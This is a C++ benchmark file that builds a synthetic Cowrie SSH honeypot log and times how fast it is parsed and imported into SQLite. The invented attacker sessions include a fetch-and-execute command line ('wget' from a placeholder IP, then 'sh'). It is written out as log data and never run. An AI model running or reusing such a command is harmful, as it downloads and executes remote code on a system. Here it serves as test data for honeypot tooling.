// Importing a Cowrie log: what its lines cost to read, and with a database behind.
#include <benchmark/benchmark.h>
#include <fmt/format.h>
#include <unistd.h>

#include <algorithm>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <memory>
#include <random>
#include <stdexcept>
#include <string>
#include <vector>

#include "decnet/importers/cowrie.h"
#include "decnet/storage/database.h"

namespace {

using namespace decnet;
using namespace decnet::importers;

// A log of at least `lines` lines: sessions of a few logins and commands, most of them by few
// attackers, as honeypots see them. Invented, and the same in every run.
std::vector<std::string> invented_log(std::size_t lines) {
  std::mt19937 chance(20260302);
  const auto below = [&chance](unsigned bound) { return chance() % bound; };
  std::vector<std::string> log;
  std::int64_t microseconds = 0;
  while (log.size() < lines) {
    const auto attacker = static_cast<unsigned>(
        std::min(1999.0, std::pow(1.0 - static_cast<double>(chance()) / 4294967296.0, -1.2)));
    const std::string session = fmt::format("{:08x}{:04x}", chance(), below(65536));
    const auto say = [&](std::string_view eventid, std::string_view members) {
      microseconds += 1000 + below(200'000);
      const auto seconds = microseconds / 1'000'000;
      log.push_back(fmt::format(
          R"({{"eventid":"{}",{},"sensor":"web-1","timestamp":"2024-03-{:02}T{:02}:{:02}:{:02}.{:06}Z",)"
          R"("src_ip":"198.51.{}.{}","session":"{}"}})",
          eventid, members, 1 + seconds / 86400, seconds / 3600 % 24, seconds / 60 % 60,
          seconds % 60, microseconds % 1'000'000, attacker / 250, attacker % 250, session));
    };
    say("cowrie.session.connect",
        R"("src_port":40022,"dst_ip":"10.0.0.5","dst_port":2222,"protocol":"ssh",)"
        R"("message":"New connection: 198.51.100.7:40022 (10.0.0.5:2222) [session: x]")");
    say("cowrie.client.version",
        R"("version":"SSH-2.0-Go","message":"Remote SSH version: SSH-2.0-Go")");
    say("cowrie.client.kex",
        R"("hassh":"0123456789abcdef0123456789abcdef","kexAlgs":["curve25519-sha256",)"
        R"("ecdh-sha2-nistp256","diffie-hellman-group14-sha1"],"keyAlgs":["ssh-ed25519"],)"
        R"("encCS":["aes128-ctr","aes192-ctr","aes256-ctr"],"macCS":["hmac-sha2-256"],)"
        R"("compCS":["none"],"langCS":[""],"message":"SSH client hassh fingerprint")");
    for (unsigned i = 0; i <= below(3); ++i) {
      say("cowrie.login.failed",
          fmt::format(R"("username":"root","password":"pw{}","message":"login attempt failed")",
                      below(9999)));
    }
    if (below(10) < 4) {
      say("cowrie.login.success", R"("username":"root","password":"admin","message":"succeeded")");
      for (unsigned i = 0; i <= below(10); ++i) {
        say("cowrie.command.input",
            fmt::format(R"("input":"cd /tmp; wget http://203.0.113.7/x{} -O x; sh x",)"
                        R"("message":"CMD: cd /tmp; wget x")",
                        below(99'999)));
      }
    }
    say("cowrie.session.closed", R"("duration":1.25,"message":"Connection lost after 1 seconds")");
  }
  return log;
}

const std::vector<std::string>& log_of_200k() {
  static const auto log = invented_log(200'000);
  return log;
}

void lines_only(benchmark::State& state) {
  const auto& log = log_of_200k();
  std::size_t bytes = 0;
  for (const std::string& line : log) bytes += line.size() + 1;
  for (auto _ : state) {
    const LineReader read = cowrie_reader();
    ObservationBatch batch;
    for (const std::string& line : log) benchmark::DoNotOptimize(read(line, batch));
  }
  const auto rounds = static_cast<std::int64_t>(state.iterations());
  state.SetItemsProcessed(rounds * static_cast<std::int64_t>(log.size()));
  state.SetBytesProcessed(rounds * static_cast<std::int64_t>(bytes));
}
BENCHMARK(lines_only)->Unit(benchmark::kMillisecond);

// A folder for the log and the database: on disk, where imports happen.
class Folder {
 public:
  Folder()
      : path_(std::filesystem::temp_directory_path() / fmt::format("import-bench-{}", getpid())) {
    std::filesystem::create_directories(path_);
    FILE* file = std::fopen(log().c_str(), "w");
    if (file == nullptr) throw std::runtime_error("cannot write " + log().string());
    for (const std::string& line : log_of_200k()) fmt::print(file, "{}\n", line);
    std::fclose(file);
  }
  ~Folder() { std::filesystem::remove_all(path_); }
  Folder(const Folder&) = delete;
  Folder& operator=(const Folder&) = delete;
  [[nodiscard]] std::filesystem::path log() const { return path_ / "cowrie.json"; }
  [[nodiscard]] std::filesystem::path database() const { return path_ / "decnet.db"; }
  void drop_database() const {
    for (const char* end : {"", "-wal", "-shm"}) {
      std::filesystem::remove(database().string() + end);
    }
  }

 private:
  std::filesystem::path path_;
};

std::uint64_t import_into(const Folder& folder, storage::Database& database, std::size_t lines) {
  ImportReport report;
  ImportOptions options;
  options.batch_lines = lines;
  auto source = open_lines(folder.log().string());
  if (!source || !import_cowrie(**source, database.observations(), options, report)) {
    throw std::runtime_error("import failed");
  }
  return report.lines;
}

std::unique_ptr<storage::Database> open(const Folder& folder) {
  auto database = storage::open_sqlite(folder.database(), storage::OpenMode::kCreate);
  if (!database) throw std::runtime_error(database.error().message);
  return *std::move(database);
}

// The argument: lines a batch.
void into_fresh_sqlite(benchmark::State& state) {
  const Folder folder;
  std::uint64_t lines = 0;
  for (auto _ : state) {
    state.PauseTiming();
    folder.drop_database();
    auto database = open(folder);
    state.ResumeTiming();
    lines += import_into(folder, *database, static_cast<std::size_t>(state.range(0)));
    state.PauseTiming();
    database.reset();
    state.ResumeTiming();
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(lines));
}
BENCHMARK(into_fresh_sqlite)
    ->Arg(5'000)
    ->Arg(50'000)
    ->Arg(200'000)
    ->Unit(benchmark::kMillisecond)
    ->UseRealTime();

void a_second_time(benchmark::State& state) {
  const Folder folder;
  const auto database = open(folder);
  import_into(folder, *database, 200'000);
  std::uint64_t lines = 0;
  for (auto _ : state) lines += import_into(folder, *database, 200'000);
  state.SetItemsProcessed(static_cast<std::int64_t>(lines));
}
BENCHMARK(a_second_time)->Unit(benchmark::kMillisecond)->UseRealTime();

}  // namespace
